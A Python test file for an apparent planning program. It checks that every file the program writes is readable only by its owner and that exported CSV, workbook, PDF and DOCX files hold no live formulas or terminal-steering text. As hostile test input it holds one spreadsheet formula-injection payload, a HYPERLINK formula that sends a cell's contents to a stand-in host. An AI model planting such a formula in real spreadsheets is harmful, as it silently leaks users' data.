"""Every file that the program writes: for its owner alone, obeyed by no terminal, and no cell of it a formula."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hostile import STEER, steered, store_hostile
from openpyxl import load_workbook
from pypdf import PdfReader

from planner import mistake
from planner.cli import main
from planner.csv_text import guarded
from planner.exchange.outgoing.kinds import KINDS, OF_PROJECT
from planner.exchange.planfile import write_plan
from planner.exchange.rate_card import write_card
from planner.exchange.unitsfile import units_json
from planner.locale import catalogue
from planner.private_file import write_private
from planner.store import Workspace
from planner.store.kept import Kept, write_kept

ROOT = Path(__file__).parents[1]
FORMULA = '=HYPERLINK("http://x/?"&A1;"y")'
LOOSE = 0o644
"""Mode of a file that stood there before, open to others."""

_WRITES = re.compile(
    r"\.write_(?:text|bytes)\(|open\([^)]*\"[wxa]b?\"|os\.open\([^)]*O_(?:WRONLY|RDWR)|O_CREAT|mkstemp|\.save\(path"
    r"|copyfile|shutil\.(?:copy|move)|os\.link"
)
GATES = {
    "planner/store/atomic.py",  # all of a workspace
    "planner/store/backups.py",  # a second name of a file that is there
    "planner/store/bin.py",  # moves files that are there
    "planner/store/recovery.py",  # sets a damaged file aside
    "planner/exchange/catalogue_words.py",  # texts of the program, read by everybody who runs it
    "planner/exchange/workbook.py",  # the book's own `save`, through private_file
    "planner/cli/__init__.py",  # nowhere: what a closed stream did not take
    "screens/terminal/hang_up.py",  # nowhere
    "planner/private_file.py",  # tables, workbooks, plans, cards, units
    "planner/documents/export.py",  # papers; `mkstemp` makes a file 0600
    "planner/documents/current.py",  # papers being written
    "planner/outcomes/esco/index.py",
    "planner/outcomes/esco/online.py",
    "planner/places/table.py",  # at build time
    "planner/cli/web/files.py",  # what a browser sends, 0600 from its first byte
}
"""Files of the program that write files, and nothing else does: what is true of them is true of every file."""


def test_files_are_written_through_few_gates() -> None:
    sources = [each for room in ("planner", "screens") for each in (ROOT / room).rglob("*.py")]
    writing = {each.relative_to(ROOT).as_posix() for each in sources if _WRITES.search(each.read_text("utf-8"))}
    assert writing == GATES


def test_a_file_that_others_could_read_is_closed_and_a_device_stays_as_it_is(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("before")
    path.chmod(LOOSE)
    write_private(path, b"Anna")
    assert (path.read_bytes(), stat.S_IMODE(path.stat().st_mode)) == (b"Anna", 0o600)
    with pytest.raises(FileExistsError):
        write_private(path, b"Ilze", new=True)
    before = Path(os.devnull).stat().st_mode
    write_private(Path(os.devnull), b"Anna")
    assert Path(os.devnull).stat().st_mode == before


def commands(out: Path, mobility: str, project: str) -> Iterator[tuple[str, ...]]:
    """Every command that writes a file."""
    for kind in KINDS:
        for ending in ("csv", "xlsx"):
            yield ("table", kind, project if kind in OF_PROJECT else mobility, "--out", str(out / f"{kind}.{ending}"))
    yield ("table", "people", mobility, "--plain", "--out", str(out / "plain.csv"))
    yield ("estimate", mobility, "--what-if", "days=20", "--xlsx", str(out / "what-if.xlsx"))
    for ending in ("csv", "xlsx"):
        yield ("translate", mobility, "--to", "en", "--out", str(out / f"texts.{ending}"))
    for form in ("pdf", "docx"):
        yield ("export", mobility, "--document", "mobility-plan", "--format", form, "--out", str(out / form))
    yield ("person", "Anna Berzina", "--out", str(out / "person"))
    yield ("backup", str(out / "all.zip"))
    yield ("demo", "--no-open")
    yield ("delete", mobility)
    yield ("doctor",)


def what_screens_write(out: Path, workspace: Workspace) -> None:
    """Files that no command makes: a rate card, units, a plan, an emergency copy, the record of a mistake."""
    opened = workspace.open_project("hostile")
    mobility = opened.mobilities[0].mobility
    for ending in ("csv", "json"):
        write_card(out / f"card.{ending}", opened.project, catalogue("en"))
    write_private(out / "units.json", units_json(mobility.units).encode(), new=True)
    write_plan(out / "plan.json", opened.project, mobility)
    write_kept(
        workspace.folder, Kept(opened.project.model_dump(mode="json"), None, mobility.model_dump(mode="json"), None)
    )
    mistake.write_mistake(workspace.folder, ValueError(STEER))


@pytest.mark.parametrize("text", [STEER, FORMULA], ids=["steers", "formula"])
def test_every_file_is_private_and_inert(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], text: str
) -> None:
    workspace, out = Workspace(tmp_path / "home"), tmp_path / "out"
    out.mkdir(mode=0o700)
    monkeypatch.setenv("MOBILITY_PLANNER_HOME", str(workspace.folder))
    store_hostile(workspace, text)
    (workspace.folder / "project-hostile.json").chmod(0o600)
    (mobility,) = workspace.projects()[0].mobilities
    old = os.umask(0)  # a careless one: what is written must not hang on it
    try:
        what_screens_write(out, workspace)
        codes = {each: main(["--lang", "en", *each]) for each in commands(out, mobility.id, "hostile")}
    finally:
        os.umask(old)
    assert "mistake of the program" not in capfd.readouterr().err
    assert not [(each, code) for each, code in codes.items() if code not in {0, 1, 2}]
    assert {each[0] for each, code in codes.items() if code == 2} <= {"person"}, codes
    written = [each for each in (*out.rglob("*"), *workspace.folder.rglob("*")) if not each.is_symlink()]
    assert {each.suffix for each in written} >= {".csv", ".xlsx", ".pdf", ".docx", ".zip", ".json", ".txt"}
    for each in written:
        mode = stat.S_IMODE(each.stat().st_mode)
        assert mode & 0o777 == (0o700 if each.is_dir() else 0o600), (each.name, oct(mode))
        assert not steered(each.name)
        if each.is_file() and each.name != "project-hostile.json" and "home" not in each.parts:
            READERS.get(each.suffix, _text)(each)


def _text(path: Path) -> None:
    assert not steered(path.read_bytes().removeprefix(b"\xef\xbb\xbf")), path.name


def _csv(path: Path) -> None:
    _text(path)
    text = path.read_bytes().decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text), delimiter=";" if text.count(";") > text.count(",") else ",")
    for cell in (each for row in rows for each in row):
        assert cell == guarded(cell) or cell.startswith("'"), (path.name, cell)


def _book(path: Path) -> None:
    book = load_workbook(path)
    for cell in (each for sheet in book for row in sheet.iter_rows() for each in row):
        assert cell.data_type != "f" or "http" not in str(cell.value), (path.name, cell.coordinate)
        assert not steered(str(cell.value)), (path.name, cell.coordinate)
    assert not steered("".join(map(str, (*book.sheetnames, book.properties.title, book.properties.creator))))


def _paper(path: Path) -> None:
    paper = PdfReader(path)
    assert not steered("\n".join(each.extract_text() for each in paper.pages)), path.name
    assert not steered("".join(map(str, (paper.metadata or {}).values()))), path.name


def _packed(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            assert not steered(name)
            assert path.suffix == ".zip" or not name.endswith(".xml") or not steered(archive.read(name)), name


READERS: dict[str, Callable[[Path], None]] = {
    ".csv": _csv, ".xlsx": _book, ".pdf": _paper, ".docx": _packed, ".zip": _packed,
}  # fmt: skip
